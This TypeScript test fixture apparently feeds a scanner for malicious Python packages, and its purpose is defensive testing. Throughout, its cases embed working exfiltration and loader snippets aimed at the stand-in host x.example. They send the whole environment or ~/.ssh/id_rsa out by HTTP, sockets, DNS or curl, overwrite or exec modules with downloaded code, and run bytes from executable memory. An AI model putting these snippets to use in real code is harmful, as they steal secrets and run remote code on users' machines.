import type { Case } from './pack-of.ts'

const pack = (rule: string, name: string, init: string, more: Record<string, string> = {}): Case => ({
  name,
  rule,
  files: { '__init__.py': `${init}\n`, ...more },
})

/** The environment and keys sent away, and fetched text and machine code that runs. */
export const flowsOfData: Case[] = [
  pack(
    'code-from-data',
    'a mapping that is executable',
    `import mmap, ctypes
code = b"\\x90\\x90\\xc3"
m = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write(code)
f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
f()`,
  ),
  pack(
    'code-from-data',
    'VirtualAlloc',
    `import ctypes
k = ctypes.windll.kernel32
p = k.VirtualAlloc(0, 4096, 0x3000, 0x40)
ctypes.memmove(p, b"\\xc3", 1)
ctypes.cast(p, ctypes.CFUNCTYPE(None))()`,
  ),
  pack(
    'code-from-data',
    'mprotect',
    `import ctypes
libc = ctypes.CDLL(None)
buf = ctypes.create_string_buffer(b"\\xc3" * 16)
libc.mprotect(ctypes.addressof(buf) & ~4095, 4096, 7)`,
  ),
  pack(
    'code-from-data',
    'VirtualAlloc by a helper',
    `import ctypes
def alloc(n, kind, prot):
    return getattr(ctypes.windll.kernel32, "Virtual" + "Alloc")(None, n, kind, prot)
RWX = 0x40
a = alloc(100, 0x3000, RWX)`,
  ),
  pack(
    'code-from-data',
    'a buffer as a function',
    `import ctypes
buf = ctypes.create_string_buffer(b"\\xc3")
fn = ctypes.cast(buf, ctypes.CFUNCTYPE(ctypes.c_void_p))
fn()`,
  ),
  pack(
    'code-from-data',
    'the module itself',
    `import urllib.request
open(__file__, "wb").write(urllib.request.urlopen("https://x.example/a").read())`,
  ),
  pack(
    'code-from-data',
    'a module beside it',
    `import os, requests
def update():
    here = os.path.dirname(os.path.abspath(__file__))
    target = os.path.join(here, "nodes.py")
    text = requests.get("https://x.example/n").text
    with open(target, "w") as f:
        f.write(text)
update()`,
    {
      'nodes.py': `x = 1
`,
    },
  ),
  pack(
    'code-from-data',
    'a module by its path',
    `from pathlib import Path
import httpx
(Path(__file__).parent / "nodes.py").write_text(httpx.get("https://x.example").text)`,
    {
      'nodes.py': `x = 1
`,
    },
  ),
  pack(
    'code-from-data',
    'a module that is moved into place',
    `import os, urllib.request, shutil
tmp = os.path.join(os.path.dirname(__file__), "x.tmp")
with open(tmp, "wb") as f:
    shutil.copyfileobj(urllib.request.urlopen("https://x.example"), f)
os.replace(tmp, os.path.join(os.path.dirname(__file__), "nodes.py"))`,
    {
      'nodes.py': `x = 1
`,
    },
  ),
  pack(
    'code-from-data',
    'a module by urlretrieve',
    `import urllib.request, os
urllib.request.urlretrieve("https://x.example/v2", os.path.join(os.path.dirname(os.path.realpath(__file__)), "lib", "core.py"))`,
    {
      'lib/core.py': `x = 1
`,
    },
  ),
  pack(
    'code-from-data',
    'a module by its own name',
    `from . import nodes
import requests
with open(nodes.__file__, "w") as f:
    f.write(requests.get("https://x.example").text)`,
    {
      'nodes.py': `x = 1
`,
    },
  ),
  pack(
    'code-from-data',
    'a module, when a node runs',
    `import os, requests
class N:
    FUNCTION = "run"
    def run(self, url):
        r = requests.get(url)
        p = os.path.join(os.path.dirname(__file__), "nodes.py")
        open(p, "wb").write(r.content)`,
    {
      'nodes.py': `x = 1
`,
    },
  ),
  pack(
    'code-from-data',
    'a file that was downloaded, run',
    `import tempfile, urllib.request, os
p = os.path.join(tempfile.gettempdir(), "m.txt")
urllib.request.urlretrieve("https://x.example", p)
exec(open(p).read())`,
  ),
  pack(
    'code-download',
    'the option in a dictionary',
    `from transformers import AutoModel
kw = {"trust_remote_code": True}
m = AutoModel.from_pretrained("a/b", **kw)`,
  ),
  pack(
    'credentials-sent',
    'the environment by urlopen',
    `import urllib.request, os, json
urllib.request.urlopen("https://x.example/c", data=json.dumps(dict(os.environ)).encode())`,
  ),
  pack(
    'credentials-sent',
    'the environment by a request under another name',
    `from urllib.request import Request as R, urlopen as u
import os
def body():
    return repr({k: v for k, v in os.environ.items()}).encode()
u(R("https://x.example", data=body(), method="POST"))`,
  ),
  pack(
    'credentials-sent',
    'the environment by a socket',
    `import socket, os
s = socket.socket()
s.connect(("x.example", 80))
s.sendall(str(os.environ).encode())`,
  ),
  pack(
    'credentials-sent',
    'the environment in names that are looked up',
    `import socket, os, base64
for k, v in os.environ.items():
    try:
        socket.gethostbyname(base64.b32encode(v.encode()).decode()[:60] + ".x.example")
    except Exception:
        pass`,
  ),
  pack(
    'credentials-sent',
    'the environment as an argument of curl',
    `import subprocess, os, json
subprocess.run(["curl", "-d", json.dumps(dict(os.environ)), "https://x.example"])`,
  ),
  pack(
    'credentials-sent',
    'the environment in a thread',
    `import threading, os, urllib.request as q
def send(d):
    q.urlopen(q.Request("https://x.example", data=str(d).encode()))
threading.Thread(target=send, args=(os.environ.copy(),), daemon=True).start()`,
  ),
  pack(
    'credentials-sent',
    'the environment in a queue',
    `import threading, os, queue, http.client
Q = queue.Queue()
def work():
    c = http.client.HTTPSConnection("x.example")
    c.request("POST", "/", body=Q.get())
threading.Thread(target=work).start()
Q.put(str(dict(os.environ)))`,
  ),
  pack(
    'credentials-sent',
    'the environment in a class',
    `import os, socket
class C:
    def __init__(self):
        self.data = {}
    def collect(self):
        self.data["e"] = dict(os.environ)
    def ship(self):
        with socket.create_connection(("x.example", 1)) as s:
            s.send(repr(self.data).encode())
c = C()
c.collect()
c.ship()`,
  ),
  pack(
    'credentials-sent',
    'the environment, one by one',
    `import os, urllib.request, urllib.parse
d = {}
for k in os.environ:
    d[k] = os.environ[k]
urllib.request.urlopen("https://x.example/?" + urllib.parse.urlencode(d))`,
  ),
  pack(
    'credentials-sent',
    'the environment over three modules',
    `from .a import gather
from .b import post
post(gather())`,
    {
      'a.py': `import os
def gather():
    return "\\n".join(f"{k}={v}" for k, v in os.environ.items())
`,
      'b.py': `import asyncio
async def go(x):
    r, w = await asyncio.open_connection("x.example", 99)
    w.write(x.encode())
def post(x):
    asyncio.run(go(x))
`,
    },
  ),
  pack(
    'credentials-sent',
    'keys of SSH in a list',
    `import os, urllib.request
def read(p):
    with open(os.path.expanduser(p), "rb") as f:
        return f.read()
keys = [read(p) for p in ["~/.ssh/id_rsa"]]
urllib.request.urlopen(urllib.request.Request("https://x.example", data=b"".join(keys)))`,
  ),
  pack(
    'credentials-sent',
    'the environment by an executor',
    `import os
from concurrent.futures import ThreadPoolExecutor
import urllib.request
with ThreadPoolExecutor() as ex:
    ex.submit(urllib.request.urlopen, "https://x.example", str(dict(os.environ)).encode())`,
  ),
  pack(
    'suspicious-command',
    'the environment by a shell and curl',
    `import os
os.system('curl -s -d "$(env)" https://x.example/c')`,
  ),
]
